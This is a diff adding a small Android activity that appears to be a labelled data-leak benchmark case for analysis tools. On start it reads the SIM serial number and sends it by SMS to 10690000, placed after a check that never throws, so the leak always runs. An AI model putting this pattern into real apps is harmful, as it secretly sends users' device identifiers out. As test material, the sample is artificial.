@@ -1,0 +1,29 @@
+// about       A method throws for empty names only; behind the call the value is sent.
+// leak        DEV_ICCID sms
+package cn.example.flow;
+
+import android.app.Activity;
+import android.os.Bundle;
+import android.telephony.SmsManager;
+import android.telephony.TelephonyManager;
+
+public class MainActivity extends Activity {
+  @Override
+  protected void onCreate(Bundle state) {
+    super.onCreate(state);
+    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
+    String card = phone.getSimSerialNumber();
+    try {
+      check("card");
+      SmsManager.getDefault().sendTextMessage("10690000", null, card, null, null);
+    } catch (IllegalArgumentException e) {
+      setTitle(e.getMessage());
+    }
+  }
+
+  private static void check(String name) {
+    if (name.isEmpty()) {
+      throw new IllegalArgumentException("no name");
+    }
+  }
+}
